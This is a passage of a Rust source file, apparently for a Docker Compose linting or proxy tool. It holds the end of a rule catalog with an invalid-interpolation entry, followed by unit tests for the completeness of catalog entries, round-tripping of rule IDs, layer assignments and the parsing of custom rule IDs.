    COMPOSE_INVALID_INTERPOLATION = "compose.invalid-interpolation", "invalid interpolation", "A `${` without its `}` or an invalid variable name makes compose refuse the file.", "image: \"app:${TAG\"", "Close the brace, or write `$$` for a literal dollar sign.";
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_entry_is_complete_and_unique() {
        let mut seen = std::collections::BTreeSet::new();
        for d in catalog() {
            assert!(seen.insert(d.id.as_str()), "duplicate {}", d.id);
            for (what, s) in [
                ("title", d.title),
                ("guards", d.guards),
                ("example", d.example),
                ("comply", d.comply),
            ] {
                assert!(!s.trim().is_empty(), "{} has no {what}", d.id);
            }
        }
    }

    #[test]
    fn the_constants_are_the_catalog_and_read_back_as_themselves() {
        // the constants are generated from the table, so this holds by
        // construction; it pins that nothing else makes a built-in id
        let ids: Vec<&RuleId> = RuleId::builtin().collect();
        assert_eq!(ids.len(), catalog().len());
        for id in ids {
            assert_eq!(RuleId::parse(id.as_str()).as_ref(), Some(id));
            assert_eq!(id.doc().map(|d| &d.id), Some(id));
            assert!(!id.is_custom(), "{id}");
            assert_eq!(
                serde_json::to_string(id).unwrap(),
                format!("\"{}\"", id.as_str())
            );
        }
        assert_eq!(RuleId::PORTS_EPHEMERAL_ONLY, "ports.ephemeral-only");
        assert_eq!(RuleId::AUTH_MISSING.layer(), Layer::Proxy);
        assert_eq!(RuleId::COMPOSE_MEMORY_UNSET.layer(), Layer::Lint);
        assert_eq!(RuleId::BOUNDS_TMPFS.layer(), Layer::Core);
    }

    #[test]
    fn custom_ids_are_the_one_dynamic_case() {
        let c = RuleId::custom("labels.owner-required");
        assert_eq!(c.as_str(), "custom.labels.owner-required");
        assert!(c.is_custom());
        assert_eq!(c.layer(), Layer::Custom);
        assert!(c.doc().is_none());
        assert_eq!(RuleId::parse("custom.x"), Some(RuleId::custom("x")));
        for not_an_id in ["no.such-rule", "custom.", "auth", "upstream", ""] {
            assert_eq!(RuleId::parse(not_an_id), None, "{not_an_id}");
        }
    }
}
